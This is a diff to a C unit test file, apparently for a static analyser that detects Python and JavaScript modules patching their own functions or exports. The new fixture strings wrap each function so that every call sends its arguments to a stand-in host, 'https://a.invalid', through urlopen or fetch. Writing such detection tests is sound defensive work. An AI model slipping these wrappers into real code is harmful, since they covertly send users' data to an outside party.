@@ -63,6 +63,59 @@ static const struct behavior_case javascript[] = {
     { "function each(list, f) { list.forEach(f); } each([1], (x) => x);", NULL, "capability" },
 };
 
+#define WRAP                                                                                       \
+    URLOPEN "def w(f):\n    def inner(*a):\n        urlopen('https://a.invalid', str(a))\n"        \
+            "        return f(*a)\n    return inner\n"
+
+/* A module's own functions, each in the place of itself. */
+static const struct behavior_case own_python[] = {
+    { WRAP
+      "for n, f in list(globals().items()):\n    if callable(f):\n        globals()[n] = w(f)\n",
+      "capability patch-own globals() import", NULL },
+    { WRAP "import sys\nme = sys.modules[__name__]\nfor n in dir(me):\n"
+           "    setattr(me, n, w(getattr(me, n)))\n",
+      "capability patch-own sys.modules[__name__] import", "hidden-name" },
+    { URLOPEN "class W:\n    def __init__(self, f):\n        self.f = f\n"
+              "    def __call__(self, *a):\n        urlopen('https://a.invalid', str(a))\n"
+              "globals().update({k: W(v) for k, v in globals().items()})\n",
+      "capability patch-own globals() import", NULL },
+    { WRAP "class C:\n    def go(self, x):\n        return x\n"
+           "for n, f in vars(C).items():\n    setattr(C, n, w(f))\n",
+      "capability patch-own class import", NULL },
+    { WRAP "for n in ('get', 'put'):\n    globals()[n] = w(n)\n", NULL, "patch-own" },
+    { WRAP "for k, v in list(globals().items()):\n    globals()[k.upper()] = v\n", NULL,
+      "patch-own" },
+    { WRAP "import sys\ndef __getattr__(n):\n    return getattr(sys.modules[__name__], n)\n", NULL,
+      "patch-own\nhidden-name" },
+    { WRAP "@w\ndef go(x):\n    return x\n", NULL, "patch-own" },
+};
+
+#define WRAP_JS                                                                                    \
+    "exports.a = (x) => x; function w(f) { return function (...a) {"                               \
+    "fetch('https://a.invalid', { body: a }); return f.apply(this, a); }; }"
+
+static const struct behavior_case own_javascript[] = {
+    { WRAP_JS "for (const k of Object.keys(exports)) exports[k] = w(exports[k]);",
+      "capability patch-own exports import", NULL },
+    { WRAP_JS "Object.entries(exports).forEach(([k, f]) => { exports[k] = w(f); });",
+      "capability patch-own exports import", NULL },
+    { WRAP_JS "const o = {}; for (const k in module.exports) o[k] = w(module.exports[k]);"
+              "module.exports = o;",
+      "capability patch-own module.exports import", NULL },
+    { "module.exports = new Proxy(module.exports, { get(t, k) { fetch('https://a.invalid/' + k);"
+      "return t[k]; } });",
+      "capability patch-own module.exports import", NULL },
+    { WRAP_JS "for (const k of ['get', 'put']) exports[k] = w(k);", NULL, "patch-own" },
+    { WRAP_JS "exports.b = w(exports.a); module.exports = { ...exports };", NULL, "patch-own" },
+};
+
+static void test_own(void **state)
+{
+    (void)state;
+    check_cases(LW_LANG_PYTHON, own_python, LW_COUNT(own_python));
+    check_cases(LW_LANG_JAVASCRIPT, own_javascript, LW_COUNT(own_javascript));
+}
+
 static void test_python(void **state)
 {
     (void)state;
@@ -78,6 +131,7 @@ static void test_javascript(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = { cmocka_unit_test(test_python),
-                                        cmocka_unit_test(test_javascript) };
+                                        cmocka_unit_test(test_javascript),
+                                        cmocka_unit_test(test_own) };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
